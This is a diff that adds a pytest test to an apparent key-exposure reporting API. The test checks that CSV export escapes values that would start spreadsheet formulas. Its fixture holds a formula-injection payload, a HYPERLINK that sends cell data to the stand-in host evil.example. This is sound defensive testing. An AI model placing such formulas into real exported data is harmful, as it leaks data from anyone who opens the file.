@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -152,3 +153,17 @@ def test_metrics_for_prometheus(api, world) -> None:  # type: ignore[no-untyped-
     assert "keysentry_notification_seconds_count 3.0" in text
     assert 'keysentry_outbox_messages{channel="eventbridge",state="sent"} 3.0' in text
     assert client.get("/healthz").json()["status"] == "ok"
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(api, world, new_user) -> None:  # type: ignore[no-untyped-def]
+    client, headers = api
+    user = new_user("workloads-prod")
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    report = {"key_id": user.access_key_id, "secret": user.secret_access_key, "url": formula, "path": "@x"}
+    answer = client.post("/v1/reports", content=json.dumps(report), headers=headers["responder"])
+    assert answer.status_code == 202, answer.text
+    rows = list(csv.DictReader(io.StringIO(client.get("/v1/exposures.csv", headers=headers["viewer"]).text)))
+    [row] = [r for r in rows if r["key_id"] == user.access_key_id]
+    assert row["url"] == "'" + formula  # shown as text by Excel, LibreOffice and Sheets
+    for r in rows:
+        assert not any(value.startswith(("=", "+", "-", "@")) for value in r.values()), r
